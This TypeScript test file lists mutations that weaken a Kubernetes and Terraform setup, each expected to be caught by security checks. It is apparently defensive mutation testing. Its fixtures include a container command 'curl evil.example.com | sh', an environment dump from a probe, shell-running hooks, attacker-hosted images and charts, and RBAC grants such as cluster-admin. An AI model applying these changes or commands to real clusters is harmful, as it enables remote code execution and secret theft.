// biome-ignore-all lint/suspicious/noTemplateCurlyInString: Terraform writes templates so

import type { Weakening } from "../mutations/mutation";
import type { Synthesis } from "../support/mutations";

// biome-ignore lint/suspicious/noExplicitAny: attributes of synthesized resources
type Attributes = any;
const deployment = (json: Synthesis): Attributes =>
  json.one("org-acme", "kubernetes_deployment_v1", "applications_metabase");
const pod = (json: Synthesis): Attributes => deployment(json).spec.template.spec;
const container = (json: Synthesis): Attributes => pod(json).container[0];
const secretsClass = (json: Synthesis): Attributes =>
  json.one("org-acme", "kubernetes_manifest", "applications_metabase_secrets").manifest;
const groups = (json: Synthesis): Attributes =>
  json.one("org-acme", "kubernetes_manifest", "security-group-policy").manifest;
const manifest = (json: Synthesis, kind: string, more: Attributes): void =>
  json.add("org-acme", "kubernetes_manifest", "mutant", {
    manifest: { apiVersion: "v1", kind, metadata: { name: "mutant", namespace: "acme" }, ...more },
  });
const release = (json: Synthesis, part: string): Attributes => json.one("platform", "helm_release", part);

/** What pods run and mount, who speaks for them, and what charts install. */
export const kubernetes: readonly Weakening[] = [
  [
    "a pod runs under the account of kube-system",
    (json) => {
      deployment(json).metadata.namespace = "kube-system";
    },
    /applications_metabase/,
  ],
  [
    "a pod runs another image beside its own",
    (json) => {
      pod(json).container.push({ ...container(json), name: "mutant", image: "evil.example.com/x" });
    },
    /applications_metabase|mutant/,
  ],
  [
    "a pod runs another image before its own",
    (json) => {
      pod(json).init_container = [{ ...container(json), name: "mutant", image: "evil.example.com/x" }];
    },
    /applications_metabase|mutant/,
  ],
  [
    "a pod uses the host network",
    (json) => {
      pod(json).host_network = true;
    },
    /applications_metabase/,
  ],
  [
    "a pod mounts a host path",
    (json) => {
      pod(json).volume.push({ name: "x", host_path: { path: "/" } });
    },
    /applications_metabase/,
  ],
  [
    "a pod mounts a token for AWS of its account",
    (json) => {
      pod(json).volume.push({
        name: "x",
        projected: { sources: [{ service_account_token: { path: "token", audience: "sts.amazonaws.com" } }] },
      });
    },
    /applications_metabase/,
  ],
  [
    "a config map is mounted over the certificates",
    (json) => {
      json.add("org-acme", "kubernetes_config_map_v1", "mutant", {
        metadata: { name: "mutant", namespace: "acme" },
        data: { "ca.pem": "-----BEGIN CERTIFICATE-----" },
      });
      for (const volume of pod(json).volume) if (volume.config_map) volume.config_map.name = "mutant";
    },
    /applications_metabase|mutant|certificate/,
  ],
  [
    "the config map of certificates holds another authority too",
    (json) => {
      const map = json.one("org-acme", "kubernetes_config_map_v1", "database-certificates");
      map.data["ca.pem"] = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n";
    },
    /database-certificates|certificate/,
  ],
  [
    "a second mount lies over the certificates",
    (json) => {
      container(json).volume_mount.push({ mount_path: "/etc/rds-ca/ca.pem", sub_path: "x", name: "tmp" });
    },
    /applications_metabase|certificate/,
  ],
  [
    "an environment variable switches verification off",
    (json) => {
      container(json).env.push({ name: "PGSSLMODE", value: "prefer" });
    },
    /applications_metabase/,
  ],
  [
    "Java takes options that trust other certificates",
    (json) => {
      container(json).env.push({ name: "JAVA_TOOL_OPTIONS", value: "-Djavax.net.ssl.trustStore=/tmp/x" });
    },
    /applications_metabase|JAVA_TOOL_OPTIONS/,
  ],
  [
    "a host alias leads the database's name elsewhere",
    (json) => {
      pod(json).host_aliases = [
        { ip: "203.0.113.9", hostnames: ["test-shared.abc.eu-west-1.rds.amazonaws.com"] },
      ];
    },
    /applications_metabase|host_aliases/,
  ],
  [
    "a pod uses other DNS servers",
    (json) => {
      pod(json).dns_policy = "None";
      pod(json).dns_config = { nameservers: ["203.0.113.53"] };
    },
    /applications_metabase|dns/,
  ],
  [
    "a pod shares processes and may trace",
    (json) => {
      pod(json).share_process_namespace = true;
      container(json).security_context.capabilities.add = ["SYS_PTRACE"];
    },
    /applications_metabase/,
  ],
  [
    "a pod takes all values of a secret from another map",
    (json) => {
      container(json).env_from = [{ secret_ref: { name: "database-credentials-api" } }];
    },
    /applications_metabase/,
  ],
  [
    "a pod runs a command instead of its image's",
    (json) => {
      container(json).command = ["sh", "-c", "curl evil.example.com | sh"];
    },
    /applications_metabase/,
  ],
  [
    "a pod runs a command at its start",
    (json) => {
      container(json).lifecycle = { post_start: { exec: { command: ["sh", "-c", "id"] } } };
    },
    /applications_metabase/,
  ],
  [
    "a probe runs a command",
    (json) => {
      container(json).liveness_probe = { exec: { command: ["sh", "-c", "env > /tmp/x"] } };
    },
    /applications_metabase/,
  ],
  [
    "a pod sets its security groups by annotation",
    (json) => {
      deployment(json).spec.template.metadata.annotations["vpc.amazonaws.com/pod-eni"] =
        '[{"eniId":"eni-1"}]';
    },
    /applications_metabase|pod-eni/,
  ],
  [
    "the account is annotated with another organization's role",
    (json) => {
      json.one("org-acme", "kubernetes_service_account_v1", "identity").metadata.annotations[
        "eks.amazonaws.com/role-arn"
      ] = "arn:aws:iam::111122223333:role/test-org-globex";
    },
    /identity_service-account|globex/,
  ],
  [
    "the account asks for tokens of another audience",
    (json) => {
      json.one("org-acme", "kubernetes_service_account_v1", "identity").metadata.annotations[
        "eks.amazonaws.com/audience"
      ] = "kubernetes.default.svc";
    },
    /identity_service-account|audience/,
  ],
  [
    "the SecurityGroupPolicy selects by DoesNotExist",
    (json) => {
      groups(json).spec.serviceAccountSelector = {
        matchExpressions: [{ key: "x", operator: "DoesNotExist" }],
      };
    },
    /security-group-policy/,
  ],
  [
    "the SecurityGroupPolicy selects every pod",
    (json) => {
      groups(json).spec.serviceAccountSelector = undefined;
      groups(json).spec.podSelector = {};
    },
    /security-group-policy/,
  ],
  [
    "the SecurityGroupPolicy is in another namespace",
    (json) => {
      groups(json).metadata.namespace = "kube-system";
    },
    /security-group-policy|kube-system/,
  ],
  [
    "a second SecurityGroupPolicy gives the client group only",
    (json) => {
      manifest(json, "SecurityGroupPolicy", {
        apiVersion: "vpcresources.k8s.aws/v1beta1",
        spec: {
          podSelector: { matchLabels: { x: "y" } },
          securityGroups: {
            groupIds: ["${data.terraform_remote_state.database-state.outputs.client_security_group_id}"],
          },
        },
      });
    },
    /mutant/,
  ],
  [
    "a mounted class reads another organization's secret",
    (json) => {
      secretsClass(json).spec.parameters.objects = secretsClass(json).spec.parameters.objects.replaceAll(
        "acme-test",
        "globex-test",
      );
    },
    /globex-test|applications_metabase/,
  ],
  [
    "a mounted class reads in another region",
    (json) => {
      secretsClass(json).spec.parameters.region = "us-east-1";
    },
    /applications_metabase|us-east-1/,
  ],
  [
    "a mounted class fails over to another region",
    (json) => {
      secretsClass(json).spec.parameters.failoverRegion = "us-east-1";
    },
    /applications_metabase|failover/i,
  ],
  [
    "a mounted class uses Pod Identity",
    (json) => {
      secretsClass(json).spec.parameters.usePodIdentity = "true";
    },
    /applications_metabase|usePodIdentity/,
  ],
  [
    "a mounted class is another provider's",
    (json) => {
      secretsClass(json).spec.provider = "vault";
    },
    /applications_metabase|vault/,
  ],
  [
    "a mounted class writes its values into a secret that another reads",
    (json) => {
      secretsClass(json).spec.secretObjects[0].labels = { "kubernetes.io/service-account.name": "x" };
      secretsClass(json).spec.secretObjects[0].type = "kubernetes.io/service-account-token";
    },
    /applications_metabase/,
  ],
  [
    "a webhook changes every pod",
    (json) => {
      manifest(json, "MutatingWebhookConfiguration", { webhooks: [] });
    },
    /MutatingWebhookConfiguration/,
  ],
  [
    "a mutating admission policy changes every pod",
    (json) => {
      manifest(json, "MutatingAdmissionPolicy", { spec: {} });
    },
    /MutatingAdmissionPolicy/,
  ],
  [
    "a binding by manifest makes the default account an administrator",
    (json) => {
      manifest(json, "ClusterRoleBinding", { roleRef: { name: "cluster-admin" } });
    },
    /ClusterRoleBinding/,
  ],
  [
    "a list of objects hides a binding",
    (json) => {
      manifest(json, "List", { items: [{ kind: "ClusterRoleBinding" }] });
    },
    /List/,
  ],
  [
    "a network attachment of another kind",
    (json) => {
      manifest(json, "ENIConfig", { spec: { securityGroups: ["sg-1"] } });
    },
    /ENIConfig/,
  ],
  [
    "a binding lets every account exec into pods",
    (json) => {
      json.add("org-acme", "kubernetes_role_v1", "mutant", {
        metadata: { name: "mutant", namespace: "acme" },
        rule: [{ api_groups: [""], resources: ["pods/exec", "pods/ephemeralcontainers"], verbs: ["*"] }],
      });
      json.add("org-acme", "kubernetes_role_binding_v1", "mutant", {
        metadata: { name: "mutant", namespace: "acme" },
        role_ref: { kind: "Role", name: "mutant", api_group: "rbac.authorization.k8s.io" },
        subject: [{ kind: "Group", name: "system:authenticated" }],
      });
    },
    /mutant/,
  ],
  [
    "a binding lets the service account create tokens",
    (json) => {
      json.add("org-acme", "kubernetes_cluster_role_v1", "mutant", {
        metadata: { name: "mutant" },
        rule: [{ api_groups: [""], resources: ["serviceaccounts/token"], verbs: ["create"] }],
      });
      json.add("org-acme", "kubernetes_cluster_role_binding_v1", "mutant", {
        metadata: { name: "mutant" },
        role_ref: { kind: "ClusterRole", name: "mutant", api_group: "rbac.authorization.k8s.io" },
        subject: [{ kind: "ServiceAccount", name: "acme", namespace: "acme" }],
      });
    },
    /mutant/,
  ],
  [
    "a binding lets callers without a login read secrets",
    (json) => {
      json.add("org-acme", "kubernetes_role_binding_v1", "mutant", {
        metadata: { name: "mutant", namespace: "acme" },
        role_ref: { kind: "ClusterRole", name: "edit", api_group: "rbac.authorization.k8s.io" },
        subject: [{ kind: "User", name: "system:anonymous" }],
      });
    },
    /mutant/,
  ],
  [
    "a cluster role is aggregated to view",
    (json) => {
      json.add("org-acme", "kubernetes_cluster_role_v1", "mutant", {
        metadata: { name: "mutant", labels: { "rbac.authorization.k8s.io/aggregate-to-view": "true" } },
        rule: [{ api_groups: [""], resources: ["secrets"], verbs: ["get"] }],
      });
    },
    /mutant/,
  ],
  [
    "a namespace pins an old version of the pod security standard",
    (json) => {
      json.one("org-acme", "kubernetes_namespace_v1", "namespace").metadata.labels[
        "pod-security.kubernetes.io/enforce-version"
      ] = "v1.0";
    },
    /namespace/,
  ],
  [
    "a network policy admits all pods to all pods",
    (json) => {
      json.add("org-acme", "kubernetes_network_policy_v1", "mutant", {
        metadata: { name: "mutant", namespace: "acme" },
        spec: { pod_selector: {}, policy_types: ["Ingress", "Egress"], ingress: [{}], egress: [{}] },
      });
    },
    /mutant/,
  ],
  [
    "a network policy admits pods of other organizations",
    (json) => {
      json.add("org-acme", "kubernetes_network_policy_v1", "mutant", {
        metadata: { name: "mutant", namespace: "acme" },
        spec: {
          pod_selector: {},
          policy_types: ["Ingress"],
          ingress: [{ from: [{ namespace_selector: {} }] }],
        },
      });
    },
    /mutant/,
  ],
  [
    "the network policy of the database leads to every address",
    (json) => {
      const policies = json.json("org-acme").resource.kubernetes_network_policy_v1;
      const name = Object.keys(policies).find((key) => key.includes("allow-https")) as string;
      policies[name].spec.egress[0].ports = undefined;
    },
    /allow-https/,
  ],
  [
    "a service opens an application to the internet",
    (json) => {
      json.one("org-acme", "kubernetes_service_v1", "applications_metabase").spec.type = "LoadBalancer";
    },
    /applications_metabase_workload_service/,
  ],
  [
    "a service has external IPs",
    (json) => {
      json.one("org-acme", "kubernetes_service_v1", "applications_metabase").spec.external_ips = [
        "10.0.4.10",
      ];
    },
    /applications_metabase_workload_service/,
  ],
  [
    "a service is an ExternalName of a foreign host",
    (json) => {
      json.add("org-acme", "kubernetes_service_v1", "mutant", {
        metadata: { name: "mutant", namespace: "kube-system" },
        spec: { type: "ExternalName", external_name: "evil.example.com" },
      });
    },
    /mutant/,
  ],
  [
    "a quota permits services of type LoadBalancer",
    (json) => {
      json.one("org-acme", "kubernetes_resource_quota_v1", "namespace").spec.hard["services.loadbalancers"] =
        "5";
    },
    /quota/,
  ],
  [
    "the driver's chart comes from elsewhere",
    (json) => {
      release(json, "secrets-store_driver").repository = "https://evil.example.com";
    },
    /secrets-store_driver/,
  ],
  [
    "the driver's chart is a file",
    (json) => {
      Object.assign(release(json, "secrets-store_driver"), { chart: "./evil", repository: undefined });
    },
    /secrets-store_driver/,
  ],
  [
    "the driver's chart is of any version",
    (json) => {
      release(json, "secrets-store_driver").version = undefined;
    },
    /secrets-store_driver/,
  ],
  [
    "the driver's image is another's",
    (json) => {
      release(json, "secrets-store_driver").set = [
        { name: "linux.image.repository", value: "evil.example.com/x" },
      ];
    },
    /secrets-store_driver/,
  ],
  [
    "the driver's values name another image",
    (json) => {
      release(json, "secrets-store_driver").values.push(
        "linux:\n  image:\n    repository: evil.example.com/x\n",
      );
    },
    /secrets-store_driver/,
  ],
  [
    "a release runs a program over its output",
    (json) => {
      release(json, "secrets-store_driver").postrender = { binary_path: "/bin/sh", args: ["-c", "id"] };
    },
    /secrets-store_driver|postrender/,
  ],
  [
    "a release updates its dependencies",
    (json) => {
      release(json, "secrets-store_driver").dependency_update = true;
    },
    /secrets-store_driver/,
  ],
  [
    "a release logs in to its repository with a password",
    (json) => {
      Object.assign(release(json, "secrets-store_driver"), {
        repository_username: "x",
        repository_password: "y",
      });
    },
    /secrets-store_driver/,
  ],
  [
    "one more release installs anything",
    (json) =>
      json.add("platform", "helm_release", "mutant", {
        name: "mutant",
        chart: "anything",
        repository: "https://evil.example.com",
        namespace: "kube-system",
      }),
    /mutant/,
  ],
  [
    "a release goes into an organization's namespace",
    (json) => {
      release(json, "reloader").namespace = "acme";
    },
    /reloader/,
  ],
  [
    "a release installs extra objects",
    (json) => {
      release(json, "reloader").values = [
        '${yamlencode({"extraObjects" = [{"kind" = "ClusterRoleBinding"}]})}',
      ];
    },
    /reloader/,
  ],
];
